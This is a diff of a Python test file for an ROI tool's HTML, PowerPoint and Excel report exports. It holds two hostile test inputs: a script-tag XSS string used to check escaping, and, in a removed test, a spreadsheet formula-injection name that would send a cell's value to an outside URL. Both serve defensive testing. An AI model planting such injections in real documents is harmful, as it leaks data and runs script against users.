@@ -1,10 +1,10 @@
-"""Leave-behind reports, read back and compared with the engine."""
+"""Leave-behind reports, read back and compared with the engine (the Excel model:
+test_xlsx_model.py)."""
 
 from __future__ import annotations
 
 import io
 import re
-from pathlib import Path
 
 import pytest
 
@@ -12,7 +12,6 @@ from roi_core import Scenario, evaluate, monte_carlo, scenario_from_dict
 from roi_ui import formatting as fmt
 from roi_ui.export import html as html_export
 from roi_ui.export import pptx as pptx_export
-from roi_ui.export import xlsx as xlsx_export
 from roi_ui.presets import load_presets
 
 NASTY = "<script>alert('x')</script> & Co"
@@ -49,30 +48,6 @@ def test_html_is_standalone_escaped_and_carries_the_figures() -> None:
         assert f"<h2>{heading}" in doc
 
 
-@pytest.mark.parametrize("case", sorted(CASES))
-def test_xlsx_formulas_recalculate_to_the_engines_figures(case: str, tmp_path: Path) -> None:
-    from openpyxl import load_workbook
-    from pycel import ExcelCompiler
-
-    s = CASES[case]
-    r = evaluate(s)
-    path = tmp_path / "case.xlsx"
-    path.write_bytes(xlsx_export.xlsx_report(s))
-    wb = load_workbook(path)
-    assert wb.sheetnames == ["Summary", "Assumptions", "Monthly cash flow", "Yearly table"]
-    assert str(wb["Summary"]["B5"].value).startswith("=")  # NPV is a live formula
-    calc = ExcelCompiler(filename=str(path))
-    s_ = r.summary
-    assert calc.evaluate("Summary!B3") == pytest.approx(s_.pv_benefits, rel=1e-9)
-    assert calc.evaluate("Summary!B4") == pytest.approx(s_.pv_costs, rel=1e-9)
-    assert calc.evaluate("Summary!B5") == pytest.approx(s_.npv, rel=1e-9, abs=1e-6)
-    assert calc.evaluate("Summary!B6") == pytest.approx(s_.roi, rel=1e-9, abs=1e-9)
-    assert calc.evaluate("Summary!B9") == pytest.approx(s_.npv_hard, rel=1e-9, abs=1e-6)
-    yearly = r.yearly()
-    for col, value in zip("BCDEFGHIJ", yearly.net, strict=False):
-        assert calc.evaluate(f"'Yearly table'!{col}4") == pytest.approx(value, rel=1e-9, abs=1e-6)
-
-
 def test_pptx_has_native_charts_with_the_engines_numbers() -> None:
     from pptx import Presentation
     from pptx.enum.chart import XL_CHART_TYPE
@@ -81,24 +56,17 @@ def test_pptx_has_native_charts_with_the_engines_numbers() -> None:
     r = evaluate(s)
     deck = Presentation(io.BytesIO(pptx_export.pptx_report(s, prospect="Acme")))
     slides = list(deck.slides)
-    assert len(slides) == 5
+    assert len(slides) >= 8  # cover, KPIs, 2 charts, assumptions (paginated), method, limits
     assert "for Acme" in slides[0].placeholders[1].text
     text = " ".join(sh.text_frame.text for sh in slides[1].shapes if sh.has_text_frame)
     assert fmt.money(r.summary.npv, "USD") in text
     charts = [sh.chart for sl in slides for sh in sl.shapes if sh.has_chart]
-    assert [c.chart_type for c in charts] == [XL_CHART_TYPE.BAR_CLUSTERED, XL_CHART_TYPE.LINE]
+    assert [c.chart_type for c in charts] == [
+        XL_CHART_TYPE.BAR_CLUSTERED, XL_CHART_TYPE.XY_SCATTER_LINES_NO_MARKERS
+    ]  # fmt: skip
     pv = r.monthly.present_values()
     bars = list(charts[0].plots[0].series[0].values)
     assert bars[-1] == pytest.approx(-pv["costs"])
     assert sum(bars) == pytest.approx(r.summary.npv)
     line = list(charts[1].plots[0].series[0].values)
     assert line == pytest.approx(list(r.monthly.cumulative_net))
-
-
-def test_xlsx_never_turns_the_scenario_name_into_a_formula() -> None:
-    from openpyxl import load_workbook
-
-    name = '=HYPERLINK("http://example.org/?"&B5,"Open")'
-    wb = load_workbook(io.BytesIO(xlsx_export.xlsx_report(scenario_from_dict({"name": name}))))
-    cell = wb["Summary"]["A1"]
-    assert (cell.value, cell.data_type) == (name, "s")
